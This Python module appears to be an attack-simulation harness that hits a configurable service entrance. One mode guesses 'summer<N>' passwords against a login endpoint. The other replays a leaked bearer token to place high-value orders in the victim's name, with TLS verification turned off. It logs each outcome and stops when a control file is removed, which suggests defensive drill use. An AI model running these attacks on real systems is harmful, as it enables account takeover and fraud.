"""Come in as a customer: guess a password, or use a token that leaked.

    python3 -m intruder.customers guess FILE    ten passwords a second
    python3 -m intruder.customers use FILE      an order a second, with the token in $TOKEN_FILE

at the entrance $ENTRANCE, for as long as FILE is there.
"""

from __future__ import annotations

import base64
import itertools
import json
import os
import select
import ssl
import sys
import time
import urllib.error
import urllib.request
import uuid
from dataclasses import dataclass
from http import HTTPStatus
from pathlib import Path
from typing import TYPE_CHECKING, Any

from .attempts import Outcome, What, record_of

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

    from .attempts import Record

ANSWER_SECONDS = 4.0
BETWEEN_GUESSES_SECONDS, BETWEEN_ORDERS_SECONDS = 0.1, 1.0
# An entrance that refuses whoever asks says nothing of itself but that.
REFUSALS = frozenset(
    {HTTPStatus.UNAUTHORIZED, HTTPStatus.FORBIDDEN, HTTPStatus.TOO_MANY_REQUESTS}
)


@dataclass(frozen=True, slots=True)
class Answer:
    status: int  # 0 where there was none
    body: bytes

    @property
    def outcome(self) -> Outcome:
        if self.status in {HTTPStatus.OK, HTTPStatus.CREATED}:
            return Outcome.IN
        return Outcome.OUT if self.status in REFUSALS else Outcome.UNKNOWN

    @property
    def said(self) -> str:
        """What is written down of it; a token is not."""
        if self.outcome is Outcome.IN:
            return str(self.status)
        return f"{self.status} {self.body.decode(errors='replace')}"


def ask(path: str, body: Mapping[str, Any], headers: Mapping[str, str]) -> Answer:
    """POST at the entrance; who it is does not matter to an intruder."""
    request = urllib.request.Request(  # noqa: S310 - the entrance, which speaks HTTP
        f"{os.environ['ENTRANCE']}{path}",
        data=json.dumps(body).encode(),
        headers={"Content-Type": "application/json", **headers},
    )
    careless = ssl.create_default_context()
    careless.check_hostname, careless.verify_mode = False, ssl.CERT_NONE
    try:
        with urllib.request.urlopen(  # noqa: S310 - the same
            request, timeout=ANSWER_SECONDS, context=careless
        ) as told:
            return Answer(told.status, told.read())
    except urllib.error.HTTPError as error:
        return Answer(error.code, error.read())
    except OSError as error:
        return Answer(0, str(error).encode())


def guess(customer: str, number: int, record: Record, asked: Callable[..., Answer]) -> None:
    """Try a password of those that people choose."""
    answer = asked("/login", {"customer": customer, "password": f"summer{number}"}, {})
    record.note(What.LOGIN, answer.outcome, subject=f"customer {customer}", said=answer.said)


def order(token: str, record: Record, asked: Callable[..., Answer]) -> None:
    """Order in the name of whoever's token it is."""
    answer = asked(
        "/orders",
        {"customer": customer_of(token), "item": "gold", "amount_cents": 99_999},
        {"Authorization": f"Bearer {token}", "Idempotency-Key": f"stolen-{uuid.uuid4()}"},
    )
    is_in = answer.outcome is Outcome.IN
    subject = f"order {json.loads(answer.body)['id']}" if is_in else ""
    record.note(What.ORDER, answer.outcome, subject=subject, said=answer.said)


def customer_of(token: str) -> str:
    """Read whose token it is, as anybody can."""
    claims = token.split(".")[1]
    padding = "=" * (-len(claims) % 4)
    return str(json.loads(base64.urlsafe_b64decode(claims + padding))["sub"])


def main(deed: str, wanted: Path) -> None:
    """Go on until that file is gone, which is looked for between two turns."""
    record = record_of(os.environ["CREDENTIAL"])
    for number in itertools.count(1):
        if not wanted.exists():
            return
        began = time.monotonic()
        if deed == "guess":
            pause = BETWEEN_GUESSES_SECONDS
            guess(os.environ["CUSTOMER"], number, record, ask)
        else:
            pause = BETWEEN_ORDERS_SECONDS
            order(Path(os.environ["TOKEN_FILE"]).read_text().strip(), record, ask)
        select.select([], [], [], max(0.0, pause - (time.monotonic() - began)))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]))
